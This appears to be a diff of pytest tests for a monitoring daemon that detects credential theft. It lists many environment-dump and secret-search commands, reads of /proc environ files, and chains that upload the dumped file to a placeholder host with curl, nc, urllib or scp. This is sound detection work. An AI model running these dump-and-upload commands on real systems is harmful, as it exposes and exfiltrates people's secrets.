@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import struct
 import time
+from collections import deque
 from pathlib import Path
 
 import pytest
@@ -60,7 +61,6 @@ def test_command_line_rules_fire(argv: list[str], rule: str) -> None:
         ["ssh", "-i", "/home/code/.ssh/id_ed25519", "host"],
         ["apt-get", "install", "socat"],
         ["grep", "-rn", "API_KEY", "src"],
-        ["cat", "/proc/self/environ"],
         ["bash", "-i"],
     ],
 )
@@ -722,3 +722,192 @@ def test_a_slot_started_again_under_the_same_name_is_watched_anew(
     second.init_pid = 2**22 + 12345  # no such process
     daemon.refresh()
     assert daemon.watched["c"] is not second and daemon.watched["c"].uuid == "uuid-2"
+
+
+# --------------------------------------------------------------------------- environment scans
+PY_FOR = "import os\nfor k, v in os.environ.items():\n    print(k, v)"
+
+
+@pytest.mark.parametrize(
+    ("argv", "rule"),
+    [
+        (["python3", "-c", "import os; print(os.environ)"], "cred.env-dump"),
+        (["python3", "-c", "import os,json; print(json.dumps(dict(os.environ)))"], "cred.env-dump"),
+        (["python3.12", "-c", PY_FOR], "cred.env-dump"),
+        (["python3", "-c", "from os import environ; import sys; sys.stdout.write(str(environ))"],
+         "cred.env-dump"),
+        (["node", "-e", "console.log(JSON.stringify(process.env))"], "cred.env-dump"),
+        (["node", "-e", "console.log(process.env)"], "cred.env-dump"),
+        (["node", "-p", "process.env"], "cred.env-dump"),
+        (["ruby", "-e", "puts ENV.to_h"], "cred.env-dump"),
+        (["ruby", "-e", "ENV.each { |k, v| puts k + v }"], "cred.env-dump"),
+        (["perl", "-e", 'print "$_=$ENV{$_}\\n" for keys %ENV'], "cred.env-dump"),
+        (["php", "-r", "print_r(getenv());"], "cred.env-dump"),
+        (["awk", "BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }"], "cred.env-dump"),
+        (["env"], "cred.env-dump"),
+        (["printenv"], "cred.env-dump"),
+        (["env", "-0"], "cred.env-dump"),
+        (["env", "-u", "HOME"], "cred.env-dump"),
+        (sh("set"), "cred.env-dump"),
+        (sh("set -o posix; set > /tmp/vars"), "cred.env-dump"),
+        (sh("export -p > /tmp/x"), "cred.env-dump"),
+        (sh("declare -x"), "cred.env-dump"),
+        (sh("typeset -p | grep -i key"), "cred.env-dump"),
+        (sh("echo $(printenv) | base64"), "cred.env-dump"),
+        (["cat", "/proc/self/environ"], "cred.env-dump"),
+        (["cat", "/proc/1/environ"], "cred.proc-environ"),
+        (sh("tr '\\0' '\\n' < /proc/1234/environ"), "cred.proc-environ"),
+        (["grep", "-ri", "api_key\\|token\\|secret\\|password", "/home/code/.config"],
+         "cred.secret-search"),
+        (sh("grep -ri 'api_key\\|token' ~/.config"), "cred.secret-search"),
+        (["rg", "-i", "aws_secret_access_key", "/"], "cred.secret-search"),
+        (["awk", "/token/", ".env"], "cred.secret-search"),
+        (["sed", "-n", "/password/p", "/etc/app/app.conf"], "cred.secret-search"),
+        (["grep", "-rl", "token", "/"], "cred.secret-search"),
+        (sh("rg -i password $HOME"), "cred.secret-search"),
+        (["git", "grep", "-i", "secret", "--", "/root/.aws"], "cred.secret-search"),
+    ],
+)  # fmt: skip
+def test_environment_and_secret_scans_warn(argv: list[str], rule: str) -> None:
+    found = levels(argv)
+    assert found.get(rule) == "warning", found
+    assert not {lvl for lvl in found.values()} & set(SERIOUS_LEVELS), found
+
+
+SERIOUS_LEVELS = ("high", "critical")
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["env", "FOO=1", "make"],
+        ["env", "make"],
+        ["env", "-i", "PATH=/usr/bin", "sh", "-c", "true"],
+        ["printenv", "HOME"],
+        ["python3", "-c", 'import os; print(os.environ["HOME"])'],
+        ["python3", "-c", "import os; print(os.environ.get('CI'))"],
+        ["python3", "-c", "import os; print('CI' in os.environ)"],
+        ["python3", "-c", "import os, subprocess; subprocess.run(['make'], env=dict(os.environ))"],
+        ["python3", "-c", "import os, subprocess as s; s.run(['make'], env=os.environ.copy())"],
+        ["python3", "-m", "pytest", "-q", "tests/"],
+        ["node", "-e", "console.log(process.env.HOME)"],
+        ["node", "-e", "console.log(Object.keys(process.env).length)"],
+        ["node", "-e", "require('child_process').spawnSync('make', {env: process.env})"],
+        ["ruby", "-e", "puts ENV['HOME']"],
+        ["perl", "-e", "print $ENV{HOME}"],
+        ["grep", "-r", "TODO", "src/"],
+        ["grep", "token", "src/lexer.py"],
+        ["grep", "-rn", "password", "tests/"],
+        ["rg", "token"],
+        ["rg", "-i", "secret", "src", "docs"],
+        ["sed", "-i", "s/token/tok/", "src/lexer.py"],
+        ["awk", "-F:", "{print $1}", "/etc/passwd"],
+        ["grep", "-r", "token", ".github/workflows"],
+        sh("set -euo pipefail; make"),
+        sh("export PATH=/x:$PATH; make"),
+        sh("declare -p PATH; declare -f"),
+        sh("env FOO=1 make && printenv HOME"),
+    ],
+)  # fmt: skip
+def test_environment_look_alikes_stay_quiet(argv: list[str]) -> None:
+    found = rules.cmdline_threats(1, argv, "")
+    assert [t.rule_id for t in found] == [], found
+
+
+def recent_execs(
+    *execs: tuple[float, int, list[str], str, str],
+) -> deque[tuple[float, int, int, list[str], str, str]]:
+    """(time, pid, argv, stdin, stdout) -> the daemon's record of recent execs."""
+    return deque((at, pid, 1, argv, fd0, fd1) for at, pid, argv, fd0, fd1 in execs)
+
+
+DUMP = ["python3", "-c", "import os; print(dict(os.environ))"]
+
+
+@pytest.mark.parametrize(
+    ("source", "stdout", "sender", "stdin"),
+    [
+        (DUMP, "/tmp/e", ["curl", "-s", "-T", "/tmp/e", f"http://{H}:9000/"], "/dev/null"),
+        (["env"], "/tmp/e", ["curl", "--data-binary", "@e", f"http://{H}/x"], "/dev/null"),
+        (["grep", "-ri", "token", "/root/.config"], "/tmp/found", ["nc", H, "9000"], "/tmp/found"),
+        (["node", "-e", "console.log(process.env)"], "/tmp/e",
+         ["python3", "-c", f"import urllib.request as u; u.urlopen('http://{H}/', "
+          "data=open('/tmp/e','rb').read())"], "/dev/null"),
+        (["printenv"], "/tmp/.x", ["scp", "/tmp/.x", "u@build.example:/srv/"], "/dev/null"),
+    ],
+)  # fmt: skip
+def test_a_dump_written_to_a_file_then_uploaded_is_high(
+    source: list[str], stdout: str, sender: list[str], stdin: str
+) -> None:
+    recent = recent_execs((10.0, 5, source, "/dev/pts/0", stdout), (12.0, 6, sender, stdin, "-"))
+    (found,) = rules.dump_then_send(recent, 6, sender, 12.0)
+    assert found.rule_id == "exfil.secrets-to-network" and found.level == "high"
+    assert found.category == "credential_access" and stdout in found.description
+
+
+@pytest.mark.parametrize(
+    ("source", "stdout", "sender", "at"),
+    [
+        # the dump went into a pipe (`env | grep -c PATH`), then an unrelated upload
+        (["env"], "pipe:[7]", ["curl", "-T", "/tmp/dist.tgz", f"http://{H}/up"], 12.0),
+        # a file of one variable, not the environment
+        (["printenv", "HOME"], "/tmp/h", ["curl", "-T", "/tmp/h", f"http://{H}/up"], 12.0),
+        # a download into the dump's file
+        (DUMP, "/tmp/e", ["curl", "-o", "/tmp/e", f"http://{H}/x"], 12.0),
+        # to a local service
+        (DUMP, "/tmp/e", ["curl", "-T", "/tmp/e", "http://localhost:8000/"], 12.0),
+        # another file
+        (DUMP, "/tmp/e", ["curl", "-T", "/tmp/other", f"http://{H}/up"], 12.0),
+        # long after
+        (DUMP, "/tmp/e", ["curl", "-T", "/tmp/e", f"http://{H}/up"], 100.0),
+    ],
+)  # fmt: skip
+def test_a_dump_that_is_not_sent_stays_a_warning(
+    source: list[str], stdout: str, sender: list[str], at: float
+) -> None:
+    recent = recent_execs((10.0, 5, source, "/dev/pts/0", stdout), (at, 6, sender, "", "-"))
+    assert rules.dump_then_send(recent, 6, sender, at) == []
+
+
+def test_the_daemon_correlates_a_dump_and_its_upload() -> None:
+    """Through Daemon.correlate, as run_rules calls it for each exec."""
+    from coi_tui.monitor.daemon import Daemon, Watched
+
+    watched = Watched("c", 1, "pid:[1]", "", "", 0, Path("/nonexistent"))
+    recent = recent_execs((10.0, 5, DUMP, "/dev/pts/0", "/tmp/e"))
+    watched.recent.extend(recent)
+    upload = ["curl", "-T", "/tmp/e", f"http://{H}/"]
+    watched.recent.append((11.0, 6, 1, upload, "/dev/null", "/dev/pts/0"))
+    found = Daemon.correlate(None, watched, 6, 1, upload, 11.0)  # type: ignore[arg-type]
+    assert [t.rule_id for t in found] == ["exfil.secrets-to-network"]
+
+
+ENV_HOSTILE = [
+    " " * 120_000 + "environ",
+    "print(" + " " * 120_000 + "x",
+    "for x in " * 12_000,
+    "ENV." * 30_000,
+    "%ENV" * 30_000,
+    "console.log(" * 10_000,
+    "dict( " * 20_000,
+    "env= " * 24_000,
+    "/." * 60_000,
+    "token /" * 17_000,
+    "=@" * 60_000,
+]
+
+
+@pytest.mark.parametrize("text", ENV_HOSTILE, ids=lambda t: t[:8].strip() or "blank")
+def test_environment_rules_run_in_linear_time_on_hostile_argv(text: str) -> None:
+    started = time.perf_counter()
+    for interpreter, flag in (("python3", "-c"), ("node", "-e"), ("ruby", "-e"), ("perl", "-e"),
+                              ("php", "-r"), ("awk", "")):  # fmt: skip
+        argv = [interpreter, flag, text] if flag else [interpreter, text]
+        rules.cmdline_threats(1, argv, "")
+    rules.cmdline_threats(1, ["grep", "-ri", "token", text], "/bin/grep")
+    rules.cmdline_threats(1, ["sh", "-c", f"grep -ri token {text}; set; {text}"], "/bin/sh")
+    recent = recent_execs(
+        *((float(i) / 100, 100 + i, ["env", text[:4096]], "", f"/tmp/{i}") for i in range(1024))
+    )
+    rules.dump_then_send(recent, 1, ["curl", "-T", text, f"http://{H}/"], 11.0)
+    assert time.perf_counter() - started < 2.0
